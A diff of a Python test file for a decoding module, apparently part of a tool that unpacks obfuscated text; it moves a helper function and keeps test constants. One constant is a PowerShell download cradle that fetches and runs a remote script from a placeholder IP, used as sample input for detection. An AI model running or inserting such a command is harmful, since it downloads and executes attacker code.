@@ -15,17 +15,11 @@ import pytest
 
 from asisdk.decode import unpack
 
-from .test_finds import check_offsets
+from .builders import layers
 
 PAYLOAD = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/u.ps1')"
 DELIMITERS = "qKxz%!<>}~_"
 HEX_DELIMITERS = "PGVzq!_~{-"
-
-
-def layers(text: str) -> list[tuple[str, str | None]]:
-    result = unpack(text)
-    check_offsets(text, result)
-    return [(layer.encoding, layer.text) for layer in result.layers]
 
 
 def written(codes: list[str], delimiters: str, seed: int) -> str:
